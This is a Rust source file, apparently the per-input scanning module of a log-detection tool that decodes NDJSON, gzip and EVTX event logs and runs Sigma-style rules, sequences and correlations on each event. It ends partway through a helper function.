//! `detect scan`, per input: reading NDJSON, gzip and EVTX, and running the
//! rule pack ([`Pack`]) on every event, in the input's order.
//!
//! One [`Scanner`] runs on each worker thread (see [`crate::driver`]) and is
//! reused for every input the thread takes. The per-line path is
//! allocation-free once the buffers have grown to the size of the lines: one
//! `Vec<u8>` receives each line (`read_until`), one [`JsonEvent`] parses it
//! into its reused tape, and [`Pack::scan`] calls back for each match (with
//! a compiled pack: [`Builtin::scan`] or the SigmaHQ pack's generated code;
//! a Sigma pack loaded at run time goes through the reference interpreter,
//! which allocates). Only reporting a match (see [`crate::output`]) formats
//! text.
//!
//! EVTX records are decoded from their BinXML by [`EvtxEvent`] (crate
//! `detect-evtx`), chunk by chunk into one reused 64 KiB buffer, and read
//! by the rules in the "evtx-nested" layout (`Event.System.*`,
//! `Event.EventData.*`) with the same members as the evtx crate's JSON
//! rendering, without rendering or parsing any JSON. Only a match reported
//! with its event (`--format jsonl --event`) writes the record as JSON.
//!
//! Bad input never stops a scan. A malformed line is reported as
//! `FILE:LINE: ...` and skipped; a damaged EVTX chunk or record as
//! `FILE: chunk N: ...` or `FILE: record N: ...`, and the scan goes on
//! with the next record or chunk; a truncated EVTX file is read up to where
//! it was cut (its last chunk padded with zeros); an input that cannot be opened
//! or read is reported as `FILE: ...` and the scan goes on with the next one.
//! Each is counted in [`Stats`]; only unreadable inputs make the exit status 2.
//!
//! Sequence rules ([`Builtin::SEQUENCES`]) run on the same events, after the
//! stateless rules, with one [`BuiltinSequences`] state per input: the events
//! of one input are taken to be in time order, and a sequence never joins
//! events of different inputs. The state is created at the first event the
//! scanner sees (its memory, bounded by `--sequence-capacity` pending
//! sequences per rule, is allocated then, once per worker thread) and reset
//! in place after each input (`reset()`: cost in proportion to the sequences
//! left pending, no allocation); stepping it allocates nothing. A completed
//! sequence is reported as one [`Match`] whose `sequence` holds the positions
//! (lines or record ids) of its events; its `event` is the last of them.

use std::cell::Cell;
use std::fmt;
use std::fs::File;
use std::io::{self, BufRead, BufReader, Cursor, Read, Seek, SeekFrom};
use std::path::Path;
use std::time::Duration;

use std::borrow::Cow;

use detect::correlation::{CorrelationEngine, CorrelationMatch};
use detect::{Event, JsonEvent, Layout, RuleInfo, Single, Value};
use detect_evtx::{EvtxEvent, FileHeader, Records, chunk_order, first_record_id};
use detect_rules::{Builtin, BuiltinSequences};
use flate2::bufread::MultiGzDecoder;
use indicatif::ProgressBar;

use crate::fields::push_sanitized;
use crate::inputs::{self, Counting, EVTX_CHUNK_SIZE, EVTX_HEADER_SIZE, Input, Kind};
use crate::json_array::{self, Next};
use crate::pack::Pack;

/// Size of the read buffer of each input.
const READ_BUFFER: usize = 256 * 1024;

/// Name used in reports for the standard input (`-` on the command line).
pub(crate) const STDIN_NAME: &str = "<stdin>";

/// Where an event is in its input.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Location {
    /// 1-based line of an NDJSON input.
    Line(u64),
    /// Record id (`EventRecordID`) of an EVTX input.
    Record(u64),
}

impl fmt::Display for Location {
    /// `:LINE` or `#RECORD`, to follow the input's name.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Location::Line(n) => write!(f, ":{n}"),
            Location::Record(n) => write!(f, "#{n}"),
        }
    }
}

/// One rule matching one event, as handed to a [`Sink`].
pub(crate) struct Match<'a> {
    /// The rule that fired.
    pub(crate) rule: &'static RuleInfo,
    /// The event it fired on (valid until the next event is parsed).
    pub(crate) event: &'a EventRef<'a>,
    /// The input's name as shown in reports.
    pub(crate) file: &'a str,
    /// Where the event is in the input.
    pub(crate) at: Location,
    /// For a sequence rule, the positions (lines or record ids, as `at`) of
    /// the events of the completed sequence, in order; `event` and `at` are
    /// its last event. `None` for a stateless rule.
    pub(crate) sequence: Option<&'a [u64]>,
    /// For a correlation rule (which also has `sequence`: the positions of
    /// the events that made it), what it measured: group and value.
    pub(crate) correlation: Option<&'a str>,
}

/// The event a match fired on: an NDJSON line or an EVTX record.
#[derive(Clone, Copy)]
pub(crate) enum EventRef<'a> {
    /// A parsed NDJSON line.
    Json(&'a JsonEvent),
    /// A decoded EVTX record.
    Evtx(&'a EvtxEvent),
}

impl EventRef<'_> {
    /// The layout the event was read in.
    pub(crate) fn detected_layout(&self) -> Layout {
        match self {
            EventRef::Json(e) => e.detected_layout(),
            EventRef::Evtx(e) => e.layout(),
        }
    }

    /// The event as JSON: the line as read, or the record rendered.
    pub(crate) fn raw(&self) -> Cow<'_, str> {
        match self {
            EventRef::Json(e) => Cow::Borrowed(e.raw()),
            EventRef::Evtx(e) => Cow::Owned(e.to_json()),
        }
    }
}

impl Event for EventRef<'_> {
    fn layout(&self) -> Layout {
        match self {
            EventRef::Json(e) => e.layout(),
            EventRef::Evtx(e) => e.layout(),
        }
    }
    fn lookup(&self, path: &str, visit: &mut dyn FnMut(Value<'_>) -> bool) -> bool {
        match self {
            EventRef::Json(e) => e.lookup(path, visit),
            EventRef::Evtx(e) => e.lookup(path, visit),
        }
    }
    fn any_value(&self, visit: &mut dyn FnMut(Value<'_>) -> bool) -> bool {
        match self {
            EventRef::Json(e) => e.any_value(visit),
            EventRef::Evtx(e) => e.any_value(visit),
        }
    }
    fn value_texts(&self, visit: &mut dyn FnMut(&str)) -> bool {
        match self {
            EventRef::Json(e) => e.value_texts(visit),
            EventRef::Evtx(e) => e.value_texts(visit),
        }
    }
    fn single(&self, path: &str) -> Single<'_> {
        match self {
            EventRef::Json(e) => e.single(path),
            EventRef::Evtx(e) => e.single(path),
        }
    }
    fn prefetch(&self) {
        match self {
            EventRef::Json(e) => e.prefetch(),
            EventRef::Evtx(e) => e.prefetch(),
        }
    }
    fn prefetch_dispatch(&self) {
        match self {
            EventRef::Json(e) => e.prefetch_dispatch(),
            EventRef::Evtx(e) => e.prefetch_dispatch(),
        }
    }
    fn all_ascii(&self) -> bool {
        match self {
            EventRef::Json(e) => e.all_ascii(),
            EventRef::Evtx(e) => e.all_ascii(),
        }
    }
}

/// The event [`Scanner::scan_event`] runs the rules on.
#[derive(Clone, Copy)]
pub(crate) enum Source<'e> {
    /// The line just parsed (`Scanner::event`).
    Json,
    /// The record just decoded (`Scanner::evtx`).
    Evtx,
    /// A record decoded and scanned by the stateless rules on another
    /// thread: `rules` are the indices (in [`Pack::rules`]) of those that
    /// matched, in rule order; only the sequence rules are left to run.
    Scanned {
        event: &'e EvtxEvent,
        rules: &'e [u32],
    },
}

/// Which rules are reported (after `--rule` and `--min-level`).
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct RuleFilter {
    /// By [`RuleInfo::index`] of [`Pack::rules`].
    pub(crate) rules: Vec<bool>,
    /// By index in [`Pack::sequences`].
    pub(crate) sequences: Vec<bool>,
}

impl RuleFilter {
    /// Every rule and sequence of `pack`.
    pub(crate) fn all(pack: &Pack) -> Self {
        RuleFilter {
            rules: vec![true; pack.rules().len()],
            sequences: vec![true; pack.sequences().len()],
        }
    }
}

/// Default of `--sequence-capacity`.
pub(crate) const DEFAULT_SEQUENCE_CAPACITY: u32 = 65536;

/// Where a scanner sends matches and problems with the input.
pub(crate) trait Sink {
    /// Reports one match. An error means the output is gone and the scan stops.
    fn on_match(&mut self, m: &Match<'_>) -> io::Result<()>;

    /// Reports a problem with the input, as one line (`FILE:LINE: what; what
    /// happens next`); the sink adds the `detect: ` prefix.
    fn report(&mut self, problem: fmt::Arguments<'_>);
}

/// Counters of one input, or of a whole run once added up.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Stats {
    /// Inputs taken (read, or reported as unreadable).
    pub(crate) inputs: u64,
    /// Bytes read: the file's size for files, what was read for stdin.
    pub(crate) bytes: u64,
    /// Events parsed and scanned.
    pub(crate) events: u64,
    /// Rule matches reported (after `--rule` and `--min-level`).
    pub(crate) matches: u64,
    /// NDJSON lines skipped because they were not a JSON object (or too long).
    pub(crate) malformed: u64,
    /// EVTX chunks and records that could not be read, and truncated EVTX files.
    pub(crate) evtx_errors: u64,
    /// Inputs that could not be opened, or failed while being read.
    pub(crate) unreadable: u64,
    /// Matches per rule, indexed by [`RuleInfo::index`].
    pub(crate) per_rule: Vec<u64>,
    /// Completed sequences reported per sequence rule, indexed as
    /// [`Pack::sequences`] (also counted in `matches`).
    pub(crate) per_sequence: Vec<u64>,
    /// Pending sequences dropped because `--sequence-capacity` was reached.
    pub(crate) sequences_evicted: u64,
    /// Wall-clock time of the scan, reading included (whole run only).
    pub(crate) elapsed: Duration,
}

impl Stats {
    /// Zero counts, with room for every rule of `pack`.
    pub(crate) fn new(pack: &Pack) -> Self {
        Stats {
            per_rule: vec![0; pack.rules().len()],
            per_sequence: vec![0; pack.sequences().len()],
            ..Stats::default()
        }
    }

    /// Adds the counts of `other` (not its time).
    pub(crate) fn add(&mut self, other: &Stats) {
        self.inputs += other.inputs;
        self.bytes += other.bytes;
        self.events += other.events;
        self.matches += other.matches;
        self.malformed += other.malformed;
        self.evtx_errors += other.evtx_errors;
        self.unreadable += other.unreadable;
        if self.per_rule.len() < other.per_rule.len() {
            self.per_rule.resize(other.per_rule.len(), 0);
        }
        for (a, b) in self.per_rule.iter_mut().zip(&other.per_rule) {
            *a += b;
        }
        self.sequences_evicted += other.sequences_evicted;
        if self.per_sequence.len() < other.per_sequence.len() {
            self.per_sequence.resize(other.per_sequence.len(), 0);
        }
        for (a, b) in self.per_sequence.iter_mut().zip(&other.per_sequence) {
            *a += b;
        }
    }
}

/// Reads inputs and scans each event, reusing its buffers from one input to
/// the next.
pub(crate) struct Scanner {
    /// The rules.
    pack: &'static Pack,
    /// The current NDJSON event; its buffers are reused for every line.
    event: JsonEvent,
    /// The current EVTX record; its buffers are reused for every record.
    evtx: EvtxEvent,
    /// The EVTX chunk being read (reused).
    chunk: Vec<u8>,
    /// The current line, as read (reused).
    line: Vec<u8>,
    /// Lines longer than this are skipped without being buffered whole.
    max_line_bytes: u64,
    /// Which rules and sequences are reported.
    filter: RuleFilter,
    /// Whether any sequence rule is reported (else sequences are not run).
    any_sequence: bool,
    /// The sequence state, created at the first event and reset after each
    /// input.
    sequences: Option<BuiltinSequences>,
    /// Pending sequences held per sequence rule (and groups and window
    /// events per correlation rule).
    sequence_capacity: usize,
    /// Threads that scan the chunks of one EVTX file (1: this one only).
    chunk_threads: usize,
    /// The correlation state of a Sigma pack that has correlation rules,
    /// created at the first event and cleared after each input.
    correlations: Option<CorrelationEngine>,
    /// The rules the current event matched (for the correlations).
    matched: Vec<usize>,
    /// A correlation match's summary, as reported.
    summary: String,
    /// Advanced as bytes are read (hidden unless the run shows one).
    progress: ProgressBar,
    /// What has been seen so far.
    pub(crate) stats: Stats,
}

impl Scanner {
    /// A scanner running the built-in rules, reporting every rule, that
    /// skips (and reports) lines longer than `max_line_bytes`.
    #[cfg(test)]
    pub(crate) fn new(max_line_bytes: u64) -> Self {
        static BUILTIN: Pack = Pack::Builtin;
        Self::with_pack(&BUILTIN, max_line_bytes)
    }

    /// A scanner running `pack`, reporting every rule, that skips (and
    /// reports) lines longer than `max_line_bytes`.
    pub(crate) fn with_pack(pack: &'static Pack, max_line_bytes: u64) -> Self {
        // Nothing is built ahead: each field's automaton, each regex and set
        // is built when the first event that needs it arrives, so a scan
        // pays only for the log sources its inputs hold (a one-event file
        // with the SigmaHQ pack would otherwise wait for every automaton).
        Scanner {
            pack,
            event: JsonEvent::new(),
            evtx: EvtxEvent::new(),
            chunk: Vec::new(),
            line: Vec::new(),
            max_line_bytes,
            filter: RuleFilter::all(pack),
            any_sequence: pack.has_sequences() && !pack.sequences().is_empty(),
            sequences: None,
            sequence_capacity: DEFAULT_SEQUENCE_CAPACITY as usize,
            chunk_threads: 1,
            correlations: None,
            matched: Vec::new(),
            summary: String::new(),
            progress: ProgressBar::hidden(),
            stats: Stats::new(pack),
        }
    }

    /// Reports only the rules and sequences that `filter` enables.
    pub(crate) fn with_filter(mut self, filter: RuleFilter) -> Self {
        self.any_sequence = self.pack.has_sequences() && filter.sequences.iter().any(|&e| e);
        self.filter = filter;
        self
    }

    /// Holds at most `capacity` pending sequences per sequence rule and input.
    pub(crate) fn with_sequence_capacity(mut self, capacity: usize) -> Self {
        self.sequence_capacity = capacity;
        self
    }

    /// Scans the chunks of each EVTX file on `threads` threads (see
    /// [`crate::chunked`]); 1 scans them on this thread.
    pub(crate) fn with_chunk_threads(mut self, threads: usize) -> Self {
        self.chunk_threads = threads.max(1);
        self
    }

    /// The rules.
    pub(crate) fn pack(&self) -> &'static Pack {
        self.pack
    }

    /// Advances `progress` by the bytes read.
    pub(crate) fn with_progress(mut self, progress: ProgressBar) -> Self {
        self.progress = progress;
        self
    }

    /// Scans one input, shown as `name` in reports. Problems with the input
    /// go to the sink's `report`; the error is the sink's (the output is gone).
    /// Sequences start afresh: they do not join events of different inputs.
    pub(crate) fn scan_input(
        &mut self,
        input: &Input,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        let result = self.scan_one(input, name, sink);
        if let Some(state) = &mut self.sequences {
            for i in 0..Builtin::SEQUENCES.len() {
                self.stats.sequences_evicted += state.stats(i).evicted;
            }
            // Emptied in place for the next input: its memory is kept.
            state.reset();
        }
        if let Some(engine) = &mut self.correlations {
            for i in 0..engine.len() {
                let s = engine.stats(i);
                self.stats.sequences_evicted += s.evicted_groups + s.evicted_values;
            }
            // Correlations do not join events of different inputs either.
            engine.clear();
        }
        result
    }

    /// [`Self::scan_input`] without the sequence state's reset.
    fn scan_one(&mut self, input: &Input, name: &str, sink: &mut dyn Sink) -> io::Result<()> {
        self.stats.inputs += 1;
        match input {
            Input::Stdin => {
                let read = Cell::new(0);
                let progress = self.progress.clone();
                let stdin = Counting::new(io::stdin().lock(), &read, &progress);
                let mut stdin = BufReader::with_capacity(READ_BUFFER, stdin);
                let result = self.scan_stream(&mut stdin, name, sink, true);
                self.stats.bytes += read.get();
                result
            }
            Input::Unreadable(_, why) => {
                self.stats.unreadable += 1;
                sink.report(format_args!("{name}: {why}"));
                Ok(())
            }
            Input::File(path) => match File::open(path) {
                Ok(file) => self.scan_file(file, path, name, sink),
                Err(e) => {
                    self.stats.unreadable += 1;
                    sink.report(format_args!(
                        "{name}: cannot open: {e}; skipping this input"
                    ));
                    Ok(())
                }
            },
        }
    }

    /// Scans an open file, of any kind.
    fn scan_file(
        &mut self,
        mut file: File,
        path: &Path,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        let len = match file.metadata() {
            Ok(meta) if meta.is_dir() => {
                self.stats.unreadable += 1;
                sink.report(format_args!(
                    "{name}: is a directory that could not be walked; skipping this input"
                ));
                return Ok(());
            }
            Ok(meta) => meta.len(),
            Err(_) => 0,
        };
        let mut head = [0u8; 8];
        let head = match read_head(&mut file, &mut head) {
            Ok(n) => &head[..n],
            Err(e) => {
                self.unreadable(name, 0, &e, sink);
                return Ok(());
            }
        };
        self.stats.bytes += len;
        let read = Cell::new(head.len() as u64);
        let progress = self.progress.clone();
        progress.inc(head.len() as u64);
        let kind = Kind::sniff(head);
        if kind == Kind::Ndjson && inputs::named_evtx(path) {
            // Never read a damaged EVTX file as lines of text.
            self.stats.unreadable += 1;
            sink.report(format_args!(
                "{name}: not an EVTX file: it is named .evtx but does not start with the EVTX \
                 signature `ElfFile` (a damaged or foreign file header); skipping this input"
            ));
            return Ok(());
        }
        match kind {
            Kind::Evtx => match file.seek(SeekFrom::Start(0)) {
                Ok(_) => self.scan_evtx(Counting::new(file, &read, &progress), len, name, sink),
                // Not seekable (a pipe given by name): read it whole.
                Err(_) => {
                    let reader = Cursor::new(head.to_vec()).chain(file);
                    self.scan_evtx_stream(Counting::new(reader, &read, &progress), name, sink)
                }
            },
            kind => {
                let reader =
                    Cursor::new(head.to_vec()).chain(Counting::new(file, &read, &progress));
                let mut reader = BufReader::with_capacity(READ_BUFFER, reader);
                self.scan_stream(&mut reader, name, sink, kind == Kind::Gzip)
            }
        }
    }

    /// Scans a stream that cannot seek: NDJSON, EVTX (read whole into
    /// memory) or, if `gzip` is allowed, gzip holding either.
    fn scan_stream(
        &mut self,
        reader: &mut dyn BufRead,
        name: &str,
        sink: &mut dyn Sink,
        gzip: bool,
    ) -> io::Result<()> {
        let head = match reader.fill_buf() {
            Ok(head) => Kind::sniff(head),
            Err(e) => {
                self.unreadable(name, 0, &e, sink);
                return Ok(());
            }
        };
        match head {
            Kind::Gzip if gzip => {
                let inflated = MultiGzDecoder::new(reader);
                let mut inflated = BufReader::with_capacity(READ_BUFFER, inflated);
                self.scan_stream(&mut inflated, name, sink, false)
            }
            Kind::Evtx => self.scan_evtx_stream(reader, name, sink),
            _ => self.scan_reader(reader, name, sink),
        }
    }

    /// Reads a whole EVTX stream into memory, then scans it.
    fn scan_evtx_stream<R: Read>(
        &mut self,
        mut reader: R,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        let mut bytes = Vec::new();
        if let Err(e) = reader.read_to_end(&mut bytes) {
            self.unreadable(name, 0, &e, sink);
            return Ok(());
        }
        let len = bytes.len() as u64;
        self.scan_evtx(Cursor::new(bytes), len, name, sink)
    }

    /// Scans every record of the EVTX data `data`, `len` bytes long, in the
    /// order they were written (oldest chunk first, records in order), one
    /// 64 KiB chunk in memory at a time.
    fn scan_evtx<T: Read + Seek>(
        &mut self,
        mut data: T,
        len: u64,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        // A damaged file header is refused here: chunk counts and numbers
        // would otherwise be read out of it as they are.
        let mut header = [0u8; inputs::EVTX_HEADER_FIELDS];
        let checked = read_head(&mut data, &mut header)
            .and_then(|n| data.seek(SeekFrom::Start(0)).map(|_| n))
            .map(|n| inputs::check_evtx_header(&header[..n]));
        match checked {
            Err(e) => {
                self.unreadable(name, 0, &e, sink);
                return Ok(());
            }
            Ok(Err(why)) => {
                self.stats.unreadable += 1;
                sink.report(format_args!(
                    "{name}: not an EVTX file: {why}; skipping this input"
                ));
                return Ok(());
            }
            Ok(Ok(Some(damage))) => {
                self.stats.evtx_errors += 1;
                sink.report(format_args!("{name}: {damage}"));
            }
            Ok(Ok(None)) => {}
        }
        let padded_len = inputs::evtx_padded_len(len);
        if padded_len != len && len > EVTX_HEADER_SIZE {
            self.stats.evtx_errors += 1;
            let chunk = (len - EVTX_HEADER_SIZE) / EVTX_CHUNK_SIZE;
            let present = (len - EVTX_HEADER_SIZE) % EVTX_CHUNK_SIZE;
            sink.report(format_args!(
                "{name}: chunk {chunk}: the file is truncated: its last chunk has {present} of \
                 {EVTX_CHUNK_SIZE} bytes; scanning the records it still holds"
            ));
        }
        let mut chunk = std::mem::take(&mut self.chunk);
        chunk.resize(EVTX_CHUNK_SIZE as usize, 0);
        let header = read_at(&mut data, 0, &mut chunk[..EVTX_HEADER_SIZE as usize])
            .map_err(|e| e.to_string())
            .and_then(|n| FileHeader::parse(&chunk[..n]).map_err(|e| e.to_string()));
        let header = match header {
            Ok(header) => header,
            Err(e) => {
                self.chunk = chunk;
                self.stats.unreadable += 1;
                sink.report(format_args!(
                    "{name}: not a readable EVTX file: {e}; skipping this input"
                ));
                return Ok(());
            }
        };
        let present = padded_len.saturating_sub(EVTX_HEADER_SIZE) / EVTX_CHUNK_SIZE;
        let listed = u64::from(header.chunk_count);
        if listed > present {
            self.stats.evtx_errors += 1;
            sink.report(format_args!(
                "{name}: the file header lists {listed} chunks but the file holds {present}: \
                 the file is truncated and the missing chunks' records are lost; \
                 scanning what is there"
            ));
        }
        let count = usize::try_from(present).unwrap_or(usize::MAX);
        let chunk_start = |n: usize| EVTX_HEADER_SIZE + n as u64 * EVTX_CHUNK_SIZE;
        // Each chunk's header says which records it holds: read them all
        // first to start with the oldest chunk (a log that has wrapped around).
        let mut firsts = Vec::with_capacity(count);
        for n in 0..count {
            let head = &mut chunk[..512];
            head.fill(0);
            let first = read_at(&mut data, chunk_start(n), head)
                .ok()
                .and_then(|_| first_record_id(head));
            firsts.push(first);
        }
        let order = chunk_order(count, |n| firsts[n]);
        if self.chunk_threads > 1 && order.len() > 1 {
            self.chunk = chunk;
            let threads = self.chunk_threads;
            return self.scan_chunks_parallel(&mut data, &order, threads, name, sink);
        }
        let result = (|| {
            for n in order {
                chunk.fill(0);
                if let Err(e) = read_at(&mut data, chunk_start(n), &mut chunk) {
                    self.unreadable(name, 0, &e, sink);
                    return Ok(());
                }
                self.scan_chunk(&chunk, n, name, sink)?;
            }
            Ok(())
        })();
        self.chunk = chunk;
        result
    }

    /// Scans the records of one EVTX chunk (number `n` in the file).
    fn scan_chunk(
        &mut self,
        chunk: &[u8],
        n: usize,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        // There may be empty chunks in a file that was not closed cleanly.
        if chunk.iter().all(|&b| b == 0) {
            return Ok(());
        }
        let records = match Records::new(chunk) {
            Ok(records) => records,
            Err(e) => {
                self.stats.evtx_errors += 1;
                sink.report(format_args!(
                    "{name}: chunk {n}: cannot read the chunk: {e}; its records are skipped, \
                     going on with the next chunk"
                ));
                return Ok(());
            }
        };
        self.evtx.start_chunk();
        for record in records {
            let record = match record {
                Ok(record) => record,
                Err(e) => {
                    self.stats.evtx_errors += 1;
                    sink.report(format_args!(
                        "{name}: chunk {n}: cannot read the record at offset {:#x}: {}; \
                         going on with the next record",
                        e.offset, e.message
                    ));
                    continue;
                }
            };
            if let Err(e) = self.evtx.decode(chunk, &record) {
                self.stats.evtx_errors += 1;
                sink.report(format_args!(
                    "{name}: record {}: cannot read the record: {e}; record skipped",
                    record.id
                ));
                continue;
            }
            self.scan_event(Source::Evtx, name, Location::Record(record.id), sink)?;
        }
        Ok(())
    }

    /// Scans every line of `reader` as NDJSON. Input errors are reported and
    /// counted; the returned error is the sink's (the output is gone).
    pub(crate) fn scan_reader<R: BufRead>(
        &mut self,
        mut reader: R,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        let mut line_no = 0u64;
        let mut first = true;
        // One byte more than allowed, to tell "exactly the limit" from "over it".
        let take = self.max_line_bytes.saturating_add(1);
        loop {
            self.line.clear();
            let read = Read::take(&mut reader, take).read_until(b'\n', &mut self.line);
            match read {
                Ok(0) => return Ok(()),
                Ok(_) => line_no += 1,
                Err(e) => {
                    self.unreadable(name, line_no, &e, sink);
                    return Ok(());
                }
            }
            // The first line that holds something decides: NDJSON, or one
            // JSON array (whose first line may be longer than a line may be).
            if first && !self.line.iter().all(u8::is_ascii_whitespace) {
                first = false;
                if json_array::opens_array(&self.line) {
                    let head = Cursor::new(std::mem::take(&mut self.line));
                    return self.scan_json_array(head.chain(reader), line_no, name, sink);
                }
            }
            if self.line.last() != Some(&b'\n') && self.line.len() as u64 > self.max_line_bytes {
                self.stats.malformed += 1;
                sink.report(format_args!(
                    "{name}:{line_no}: line is longer than {} bytes; skipped \
                     (raise the limit with --max-line-bytes)",
                    self.max_line_bytes
                ));
                if let Err(e) = reader.skip_until(b'\n') {
                    self.unreadable(name, line_no, &e, sink);
                    return Ok(());
                }
                continue;
            }
            let line = trim_line_end(&self.line);
            if line.iter().all(u8::is_ascii_whitespace) {
                continue;
            }
            if let Err(e) = self.event.parse(line) {
                self.stats.malformed += 1;
                sink.report(format_args!(
                    "{name}:{line_no}: not a valid JSON object at byte {}: {}; line skipped",
                    e.offset, e.message
                ));
                continue;
            }
            self.scan_event(Source::Json, name, Location::Line(line_no), sink)?;
        }
    }

    /// Scans the events of a JSON array (see [`crate::json_array`]), whose
    /// `[` is on line `first_line`: each element is an event located by the
    /// line it starts on. An element that is not a JSON object, or is longer
    /// than `--max-line-bytes`, is reported and skipped like a malformed
    /// line; an array that cannot be split further ends the input with one
    /// report.
    fn scan_json_array<R: BufRead>(
        &mut self,
        reader: R,
        first_line: u64,
        name: &str,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        let mut elements = json_array::Elements::new(reader, first_line, self.max_line_bytes);
        loop {
            match elements.next(&mut self.line) {
                Ok(Next::Element(line)) => {
                    if let Err(e) = self.event.parse(&self.line) {
                        self.stats.malformed += 1;
                        sink.report(format_args!(
                            "{name}:{line}: array element is not a valid JSON object at byte {}: \
                             {}; element skipped",
                            e.offset, e.message
                        ));
                        continue;
                    }
                    self.scan_event(Source::Json, name, Location::Line(line), sink)?;
                }
                Ok(Next::TooLong(line)) => {
                    self.stats.malformed += 1;
                    sink.report(format_args!(
                        "{name}:{line}: array element is longer than {} bytes; skipped \
                         (raise the limit with --max-line-bytes)",
                        self.max_line_bytes
                    ));
                }
                Ok(Next::End) => return Ok(()),
                Ok(Next::Malformed(line, why)) => {
                    self.stats.malformed += 1;
                    sink.report(format_args!(
                        "{name}:{line}: not a well-formed JSON array: {why}; \
                         the rest of this input is skipped"
                    ));
                    return Ok(());
                }
                Err(e) => {
                    self.unreadable(name, elements.line(), &e, sink);
                    return Ok(());
                }
            }
        }
    }

    /// Runs the rules, then the sequence rules, on the event just read
    /// (or on one whose rules have run already, see [`Source`]).
    pub(crate) fn scan_event(
        &mut self,
        source: Source<'_>,
        name: &str,
        at: Location,
        sink: &mut dyn Sink,
    ) -> io::Result<()> {
        self.stats.events += 1;
        let event = &match source {
            Source::Evtx => EventRef::Evtx(&self.evtx),
            Source::Json => EventRef::Json(&self.event),
            Source::Scanned { event, .. } => EventRef::Evtx(event),
        };
        let stats = &mut self.stats;
        let enabled = &self.filter.rules;
        let mut result = Ok(());
        if self.correlations.is_none() {
            self.correlations = self.pack.correlation_engine(self.sequence_capacity);
        }
        let correlations = &mut self.correlations;
        let matched = &mut self.matched;
        matched.clear();
        let on_rule = &mut |rule: &'static RuleInfo| {
            if let Some(engine) = correlations.as_ref() {
                matched.push(rule.index);
                // A rule a correlation reads with `generate: false` is not
                // reported on its own.
                if !engine.reports_rule(rule.index) {
                    return;
                }
            }
            if !enabled.get(rule.index).copied().unwrap_or(true) {
                return;
            }
            stats.matches += 1;
            if let Some(count) = stats.per_rule.get_mut(rule.index) {
                *count += 1;
            }
            if result.is_ok() {
                result = sink.on_match(&Match {
                    rule,
                    event,
                    file: name,
                    at,
                    sequence: None,
                    correlation: None,
                });
            }
        };
        match source {
            Source::Scanned { rules, .. } => {
                let all = self.pack.rules();
                rules
                    .iter()
                    .filter_map(|&r| all.get(r as usize))
                    .for_each(on_rule);
            }
            _ => self.pack.scan(event, on_rule),
        }
        let (Location::Line(pos) | Location::Record(pos)) = at;
        if let Some(engine) = correlations {
            let rules = self.pack.sequences();
            let enabled = &self.filter.sequences;
            let summary = &mut self.summary;
            engine.step(event, pos, matched, |m| {
                if !m.reported || !enabled.get(m.correlation).copied().unwrap_or(true) {
                    return;
                }
                let Some(rule) = rules.get(m.correlation) else {
                    return;
                };
                stats.matches += 1;
                if let Some(count) = stats.per_sequence.get_mut(m.correlation) {
                    *count += 1;
                }
                summary.clear();
                correlation_summary(summary, rule, m);
                if result.is_ok() {
                    result = sink.on_match(&Match {
                        rule,
                        event,
                        file: name,
                        at,
                        sequence: Some(m.events),
                        correlation: Some(summary),
                    });
                }
            });
        }
        if !self.any_sequence {
            return result;
        }
        let capacity = self.sequence_capacity;
        let state = self
            .sequences
            .get_or_insert_with(|| Builtin::sequences(capacity));
        let enabled = &self.filter.sequences;
        state.step(event, pos, |rule, positions| {
            if !enabled.get(rule.index).copied().unwrap_or(true) {
                return;
            }
            stats.matches += 1;
            if let Some(count) = stats.per_sequence.get_mut(rule.index) {
                *count += 1;
            }
            if result.is_ok() {
                result = sink.on_match(&Match {
                    rule,
                    event,
                    file: name,
                    at,
                    sequence: Some(positions),
                    correlation: None,
                });
            }
        });
        result
    }

    /// Counts and reports an input that failed while being read.
    pub(crate) fn unreadable(
        &mut self,
        name: &str,
        line_no: u64,
        e: &io::Error,
        sink: &mut dyn Sink,
    ) {
        self.stats.unreadable += 1;
        if line_no == 0 {
            sink.report(format_args!(
                "{name}: cannot read: {e}; skipping this input"
            ));
        } else {
            sink.report(format_args!(
                "{name}: read error after line {line_no}: {e}; skipping the rest of this input"
            ));
        }
    }
}

/// Reads up to `buf.len()` bytes (fewer only at the end of the input).
/// `TITLE: value V over N events, group a, b` for a correlation match.
fn correlation_summary(out: &mut String, rule: &RuleInfo, m: &CorrelationMatch<'_>) {
    use std::fmt::Write as _;
    let _ = write!(out, "{}: value {} over {} ", rule.title, m.value, m.window);
    out.push_str(if m.window == 1 { "event" } else { "events" });
    if !m.group.is_empty() {
        out.push_str(", group ");
        for (i, g) in m.group.iter().enumerate() {
            if i > 0 {
                out.push_str(", ");
            }
            push_sanitized(out, g);
        }
    }
}

fn read_head(reader: &mut impl Read, buf: &mut [u8]) -> io::Result<usize> {
    let mut n = 0;
    while n < buf.len() {
        match reader.read(&mut buf[n..]) {
            Ok(0) => break,
            Ok(k) => n += k,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
    Ok(n)
}

/// Reads `buf.len()` bytes at `offset`, fewer only at the end of the data
/// (the rest of `buf` is left as it was). Returns how many were read.
pub(crate) fn read_at(
    data: &mut (impl Read + Seek),
    offset: u64,
    buf: &mut [u8],
) -> io::Result<usize> {
    data.seek(SeekFrom::Start(offset))?;
    read_head(data, buf)
}

/// The line without its trailing `\n` or `\r\n`.
fn trim_line_end(line: &[u8]) -> &[u8] {
    let line = line.strip_suffix(b"\n").unwrap_or(line);
    line.strip_suffix(b"\r").unwrap_or(line)
}

/// How an input is named in reports: as given (lossily decoded, control
/// characters replaced so that reports stay one line each), or
/// [`STDIN_NAME`] for stdin.
pub(crate) fn display_name(input: &Input) -> String {
    let path = match input {
        Input::Stdin => return STDIN_NAME.to_string(),
        Input::File(path) | Input::Unreadable(path, _) => path,
    };
    let mut name = String::new();
    push_sanitized(&mut name, &path.to_string_lossy());
    name
